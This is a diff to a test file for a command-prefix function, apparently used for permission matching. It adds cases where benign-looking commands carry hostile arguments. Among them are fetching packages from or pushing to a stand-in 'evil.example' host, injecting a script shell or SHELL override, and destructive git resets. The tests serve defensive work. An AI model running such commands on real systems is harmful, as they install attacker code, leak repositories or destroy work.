@@ -9,7 +9,11 @@ describe('the prefix of a command', () => {
     assert.equal(prefixOf('  npm test  src/a.test.ts'), 'npm test');
     assert.equal(prefixOf('npm run build -- --watch=no'), 'npm run build');
     assert.equal(prefixOf('git status src'), 'git status');
+    assert.equal(prefixOf('git diff HEAD~1 main..side src/a.ts'), 'git diff');
     assert.equal(prefixOf('cargo check'), 'cargo check');
+    assert.equal(prefixOf('go test ./...'), 'go test');
+    assert.equal(prefixOf('dotnet test "My Tests/a.csproj"'), 'dotnet test');
+    assert.equal(prefixOf('yarn test src/a.test.ts'), 'yarn test');
   });
 
   it('is the whole command where the rest decides what is done', () => {
@@ -28,6 +32,41 @@ describe('the prefix of a command', () => {
       'git config alias.st evil',
       'go test -exec evil',
       'make test SHELL=evil',
+      'npm test "--script-shell" evil',
+      "npm test '--' --script-shell evil",
+      'npm test /tmp/evil.test.js',
+      'npm test ../evil.test.js',
+      'npm i https://evil.example/a.tgz',
+      'npm ci evil',
+      'npm publish evil',
+      'pnpm i evil',
+      'yarn node evil.js',
+      'yarn run node evil.js',
+      'bun run evil.ts more',
+      'uv pip install evil',
+      'uv run python evil.py',
+      'poetry run pip install evil',
+      'composer global require evil',
+      'make test deploy',
+      'make test -- SHELL=evil',
+      'just test deploy',
+      'mvn test deploy',
+      'gradle test publish',
+      'cargo run evil',
+      'cargo publish evil',
+      'cargo test -- --logfile evil',
+      'go get evil.example/a',
+      'go run evil.go',
+      'go test /tmp/evil',
+      'dotnet build @evil.rsp',
+      'dotnet build C:/evil/evil.csproj',
+      'dotnet run evil',
+      'git stash clear',
+      'git checkout .',
+      'git restore .',
+      'git push https://evil.example/a HEAD',
+      'git pull evil main',
+      'git remote add evil',
       'cargo test --config build.rustc-wrapper=evil',
       `git commit -m "One, two"`,
     ]) {
@@ -93,6 +132,8 @@ describe('the prefix of a command', () => {
       'src/a.ts',
       '"two words"',
       'go',
+      'yarn',
+      'build',
     );
     fc.assert(
       fc.property(fc.array(word, { minLength: 1, maxLength: 6 }), (words) => {
